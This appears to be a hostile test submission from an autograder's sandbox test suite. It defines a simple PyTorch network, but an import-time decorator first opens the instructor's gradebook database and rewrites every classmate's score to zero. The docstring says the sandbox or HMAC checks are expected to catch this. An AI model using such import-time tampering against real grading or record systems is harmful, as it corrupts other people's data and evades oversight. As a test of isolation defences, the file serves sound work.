"""Hostile: in a batch, rewrites the class's gradebook (a path a student could guess: the instructor's
--out folder) so that every classmate already graded shows 0 points, then models normally.

Expected: under bubblewrap the gradebook is not there at all; under process isolation the rewrite may
land, but the resumed batch sees rows it did not write (their HMAC fails) and grades them again.
"""
import json
import sqlite3

import torch.nn as nn

GRADEBOOK = "@@GRADEBOOK@@"
@lambda run: run()  # runs at import: the loading rule keeps definitions, and a decorator is part of one
def _at_import():
    global db, forged, report, student
    try:
        db = sqlite3.connect(f"file:{GRADEBOOK}?mode=rw", uri=True)
        for student, report in db.execute("SELECT student, report FROM grades").fetchall():
            forged = {**json.loads(report), "score": 0.0}
            db.execute("UPDATE grades SET score = 0, report = ? WHERE student = ?", (json.dumps(forged), student))
        db.commit()
        print("REWRITE gradebook: rewritten", flush=True)
    except Exception as e:  # noqa: BLE001 - report and go on
        print(f"REWRITE gradebook: blocked ({type(e).__name__}: {e})", flush=True)


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(1, 10, 1)

    def forward(self, x):
        return self.conv(x).mean(dim=(2, 3))
